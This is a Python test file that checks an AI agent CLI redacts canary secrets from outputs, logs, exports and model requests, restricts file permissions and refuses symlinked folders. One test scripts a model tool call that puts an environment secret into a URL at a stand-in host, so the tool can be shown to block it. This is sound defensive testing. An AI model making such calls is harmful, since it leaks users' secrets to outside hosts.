"""Canary secrets: where they must never be found, whatever is done with them."""

import json
import os
import stat
from pathlib import Path

import pytest

from tests.e2e.ts import Ts, call, calling
from tests.servers import Answer, AnthropicServer

ENV = "cnry-Env7f3a9b2c"  # the value of a variable whose name says what it is
DOTENV = "cnry+Dot/4e5d6c7b=="  # a value in .env
KEY = "sk-ant-api03-" + "Cn4ry" * 6  # a form that everybody knows
CANARIES = (ENV, DOTENV, KEY)
PRINT = call("bash", command="cat values.txt")


@pytest.fixture
def keeper(ts: Ts) -> Ts:
    """A user who has secrets in the environment and in .env, and in a file that a tool shows."""
    ts.env |= {"DEPLOY_TOKEN": ENV}
    ts.write(".env", f'SERVICE_API_KEY="{DOTENV}"\n')
    ts.write("values.txt", "".join(f"value {each}\n" for each in CANARIES))
    return ts


def found(ts: Ts, *besides: str) -> list[str]:
    """The files of the user's in which a canary stands, but for those it was put in."""
    own = {".env", "values.txt", *besides}
    places = [*ts.cwd.rglob("*"), *ts.home.rglob("*"), *ts.temporary.rglob("*")]
    return [
        str(path)
        for path in places
        if path.is_file()
        and path.name not in own
        and not path.name.startswith("script-")
        and any(each.encode() in path.read_bytes() for each in CANARIES)
    ]


@pytest.mark.parametrize("form", ["text", "json", "stream-json"])
def test_r68_a_secret_that_a_tool_shows_is_in_no_output_and_no_file(keeper: Ts, form: str) -> None:
    plan = {
        "goal": f"use {KEY}",
        "steps": [
            {"id": "a", "run": "cat values.txt"},
            {"id": "b", "run": "cat values.txt >&2; false", "allow_failure": True},
            {"id": "c", "do": f"what is {DOTENV}?", "needs": ["a"]},
        ],
    }
    keeper.write("plan.yaml", json.dumps(plan))
    model = keeper.script(calling(PRINT), f"they are {' '.join(CANARIES)}")
    for words in (["run", "plan.yaml"], ["-p", f"what is {ENV}, and {KEY}?"]):
        ran = keeper.here(*words, "-y", "--verbose", "--output-format", form, model=model)
        assert ran.code == 0, ran
        for canary in (ENV, DOTENV) if form == "text" else CANARIES:  # a text answer is the user's
            assert canary not in ran.out, words
            assert canary not in ran.err or form == "text", words
    assert found(keeper, "plan.yaml") == []
    assert "[redacted: DEPLOY_TOKEN]" in "".join(
        path.read_text(encoding="utf-8") for path in keeper.cwd.glob(".agent/*/*.jsonl")
    )
    for words in (["show"], ["show", "--json"], ["sessions", "show"], ["runs"]):
        ran = keeper.here(*words)
        assert not any(canary in ran.out + ran.err for canary in CANARIES), words


def test_r68_a_model_is_not_sent_the_user_s_secrets_that_a_tool_shows(keeper: Ts) -> None:
    calls = (("c1", "bash", json.dumps({"command": f"cat values.txt; echo {ENV[:6]}"})),)
    with AnthropicServer([Answer(calls=calls), Answer(text="seen")]) as server:
        keeper.asks(server)
        assert keeper.here("-p", "look", "-y").code == 0
        sent = json.dumps(server.requests[-1].json)
    assert ENV not in sent
    assert DOTENV not in sent
    assert "[redacted: DEPLOY_TOKEN]" in sent
    assert "[redacted: SERVICE_API_KEY]" in sent
    assert ENV[:6] in sent  # what is no secret is sent as it is


def test_r68_a_secret_that_a_model_says_in_pieces_is_in_none_of_them(keeper: Ts) -> None:
    with AnthropicServer([Answer(text=f"{ENV} and {KEY}, that is all", size=5)]) as server:
        keeper.asks(server)
        ran = keeper.here("-p", "say", "--output-format=stream-json", "--include-partial-messages")
    pieces = "".join(each["text"] for each in ran.events if each["type"] == "text.delta")
    assert pieces == "[redacted: DEPLOY_TOKEN] and [redacted], that is all"


@pytest.mark.parametrize("form", ["md", "html", "jsonl"])
def test_r68_an_exported_conversation_holds_no_secret_of_the_environment(
    keeper: Ts, form: str
) -> None:
    values = dict(keeper.env)
    del keeper.env["DEPLOY_TOKEN"]  # it was no secret when it was said
    (keeper.cwd / ".env").rename(keeper.cwd / "env")
    ran = keeper.here("-p", f"{ENV} {DOTENV} {KEY}", model=keeper.script(f"{ENV}, {DOTENV}!"))
    assert ran.code == 0
    keeper.env |= values
    (keeper.cwd / "env").rename(keeper.cwd / ".env")
    [kept] = keeper.cwd.glob(".agent/sessions/*.jsonl")
    assert ENV in kept.read_text(encoding="utf-8")
    assert keeper.here("sessions", "export", kept.stem, f"talk.{form}").code == 0
    text = (keeper.cwd / f"talk.{form}").read_text(encoding="utf-8")
    assert not any(canary in text for canary in CANARIES)
    assert "[redacted]" in text


def test_a_secret_is_not_overwritten_with_what_stands_in_for_it(keeper: Ts) -> None:
    bad = calling(call("write_file", path="a.txt", content="KEY=[redacted: DEPLOY_TOKEN]\n"))
    good = calling(call("write_file", path="b.txt", content="KEY=[redacted: NOTHING] [redacted]\n"))
    ran = keeper.here("-p", "x", "-y", model=keeper.script(bad, good, "done"))
    assert ran.code == 0
    assert not (keeper.cwd / "a.txt").exists()
    assert (keeper.cwd / "b.txt").exists()


def test_r68_a_conversation_goes_on_without_the_secret_that_was_said_in_it(keeper: Ts) -> None:
    calls = (("c1", "bash", json.dumps({"command": "echo hi"})),)
    with AnthropicServer(
        [
            Answer(thinking=f"a key, {KEY}", calls=calls, text=f"using {KEY}"),
            Answer(text="one"),
            Answer(text="two"),
        ]
    ) as server:
        keeper.asks(server)
        assert keeper.here("-p", f"my key is {KEY}", "-y").code == 0
        live = json.dumps(server.requests[-1].json)
        assert keeper.here("-p", "go on", "-c").said == "two\n"
        again = json.dumps(server.requests[-1].json)
    assert KEY in live
    assert KEY not in again
    assert "my key is [redacted]" in again
    assert found(keeper) == []


def test_a_run_whose_command_held_a_secret_is_not_gone_on_with_in_part(keeper: Ts) -> None:
    steps = [{"id": "a", "do": "x"}, {"id": "b", "needs": ["a"], "run": f"echo {KEY} > c.out"}]
    keeper.write("plan.yaml", json.dumps({"steps": steps}))
    failing = keeper.script({"error": {"kind": "setup"}})
    assert keeper.here("run", "plan.yaml", model=failing).code != 0
    ran = keeper.here("resume", model=keeper.script("done"))
    assert ran.code == 2, ran
    assert "a secret in its command" in ran.err
    assert keeper.here("run", "plan.yaml", model=keeper.script("done")).code == 0
    assert KEY in (keeper.cwd / "c.out").read_text(encoding="utf-8")  # what it runs is not changed


def test_r68_errors_and_fault_files_show_no_secret(keeper: Ts) -> None:
    for form in ("text", "json"):
        ran = keeper.here("run", f"{ENV}.yaml", "--output-format", form)
        assert ran.code == 2
        assert ENV not in ran.out + ran.err
        ran = keeper.here("-p", "x", "--model", f"nobody/{KEY}", "--output-format", form)
        assert ran.code in (2, 3)
        assert KEY not in ran.out + ran.err


def test_r63_a_secret_of_the_environment_does_not_leave_in_an_address(keeper: Ts) -> None:
    calls = [call("web_fetch", url=f"http://x.example/{ENV}"), call("web_search", query=DOTENV)]
    model = keeper.script(calling(*calls), "done")
    ran = keeper.here("-p", "ask x.example", "-y", "--output-format", "stream-json", model=model)
    outputs = [event["output"] for event in ran.events if event["type"] == "tool.finished"]
    assert len(outputs) == 2
    assert all("one of the user's secrets" in output for output in outputs)


def test_r69_files_are_the_user_s_alone_whatever_the_umask(keeper: Ts) -> None:
    before = os.umask(0)
    try:
        keeper.write("plan.yaml", json.dumps({"steps": [{"id": "a", "run": "echo hi"}]}))
        there = {path for root in (keeper.cwd, keeper.home) for path in root.rglob("*")}
        assert keeper.here("run", "plan.yaml").code == 0
        model = keeper.script(calling(call("write_file", path="a.txt", content="x")), "hello")
        assert keeper.here("-p", "hi", "-y", model=model).code == 0
    finally:
        os.umask(before)
    loose = [
        f"{path} {stat.S_IMODE(path.lstat().st_mode):o}"
        for root in (keeper.cwd / ".agent", keeper.home, keeper.temporary)
        for path in [root, *root.rglob("*")]
        if path not in there | {keeper.home, keeper.temporary}
        and not path.name.startswith("script-")
        and path != Path(keeper.cwd / ".agent/.gitignore")
        and stat.S_IMODE(path.lstat().st_mode) & 0o077
    ]
    assert loose == []


@pytest.mark.parametrize("name", ["runs", "sessions", "workspace"])
def test_r69_a_link_in_the_place_of_our_folder_is_not_followed(keeper: Ts, name: str) -> None:
    other = keeper.home / "elsewhere"
    other.mkdir()
    (keeper.cwd / ".agent").mkdir()
    (keeper.cwd / ".agent" / name).symlink_to(other)
    keeper.write("plan.yaml", json.dumps({"steps": [{"id": "a", "run": "echo hi"}]}))
    keeper.here("run", "plan.yaml")
    keeper.here("-p", "hi", model=keeper.script("hello"))
    assert list(other.iterdir()) == []
